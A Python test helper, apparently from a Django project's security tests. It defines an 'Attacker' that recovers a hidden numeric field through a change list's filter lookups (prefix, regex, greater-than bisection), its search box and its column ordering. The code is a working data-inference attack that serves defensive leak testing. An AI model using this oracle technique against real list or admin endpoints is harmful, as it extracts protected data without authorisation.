"""An attacker with patience: learns a hidden number digit by digit, from whatever in an answer depends on it."""

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import urlencode

from django.test import Client

DIGITS = "0123456789"
ROWS = re.compile(r'<table id="result_list".*?</table>', re.DOTALL)
ROW = re.compile(r"/(\d+)/change/")


class OutOfRequests(Exception):
    """The attacker has asked as often as anybody would let them."""


@dataclass
class Attacker:
    """Asks a list about one field of one record. `place` gives a record of the attacker's own a value of that field."""

    client: Client
    url: str
    field: str
    record: int
    length: int
    place: Callable[[str], int | None]
    budget: int = 500
    asked: int = field(default=0, init=False)

    def learns(self) -> dict[str, str]:
        """What each way has found out, from the first digit on; a way that tells nothing is left out."""
        found = {}
        for name, way in self._ways():
            self.asked = 0
            try:
                found[name] = way()
            except OutOfRequests:
                found[name] = ""
        return {name: digits for name, digits in found.items() if digits}

    def _ways(self) -> Iterator[tuple[str, Callable[[], str]]]:
        for lookup in ("startswith", "istartswith", "regex"):
            begin = "^" if lookup == "regex" else ""
            yield (
                lookup,
                lambda lookup=lookup, begin=begin: self._spelt(  # type: ignore[misc]
                    lambda word: self._rows({f"{self.field}__{lookup}": begin + word})
                ),
            )
        yield "search", lambda: self._spelt(lambda word: self._rows({"q": word}))
        for lookup in ("gte", "gt"):
            yield (
                lookup,
                lambda lookup=lookup: self._bisected(  # type: ignore[misc]
                    lambda word: self.record in self._rows({f"{self.field}__{lookup}": word})
                ),
            )
        yield "order", self._ordered

    def _rows(self, words: dict[str, str]) -> list[int]:
        """The records of an answer in their order; none of a refusal."""
        self.asked += 1
        if self.asked > self.budget:
            raise OutOfRequests
        answer = self.client.get(f"{self.url}?{urlencode(words)}")
        table = ROWS.search(answer.text) if answer.status_code == 200 else None
        return list(dict.fromkeys(map(int, ROW.findall(table[0])))) if table else []

    def _spelt(self, rows: Callable[[str], list[int]]) -> str:
        """Digit after digit, as long as exactly one of the ten lets the record stay."""
        known = ""
        while len(known) < self.length:
            stay = [digit for digit in DIGITS if self.record in rows(known + digit)]
            if len(stay) != 1:
                break
            known += stay[0]
        return known

    def _bisected(self, reaches: Callable[[str], bool]) -> str:
        """By halves: is the number at least this? Only where the ends answer as they must."""
        if not reaches("0") or reaches("9" * self.length):
            return ""
        low, high = 0, 10**self.length - 1
        while high - low > 1:
            middle = (low + high) // 2
            low, high = (middle, high) if reaches(f"{middle:0{self.length}}") else (low, middle)
        return f"{high if reaches(f'{high:0{self.length}}') else low:0{self.length}}"

    def _ordered(self) -> str:
        """By the place of an own record in the list, in whichever column orders by the number.

        A column that orders by something else puts a small and a large number in the same place, or in any.
        """
        ends = ["0" * self.length, "9" * self.length] * 12  # by chance alone nobody is right so often
        for column in range(12):
            if all(self._above(column, text) is (text[0] == "9") for text in ends):
                return self._bisected(lambda word, column=column: not self._above(column, word))  # type: ignore[misc]
        return ""

    def _above(self, column: int, text: str) -> bool | None:
        """Whether an own record with this number comes after the other one in the order of a column."""
        own, rows = self.place(text), self._rows({"o": str(column)})
        if own is None or own not in rows or self.record not in rows:
            return None
        return rows.index(own) > rows.index(self.record)
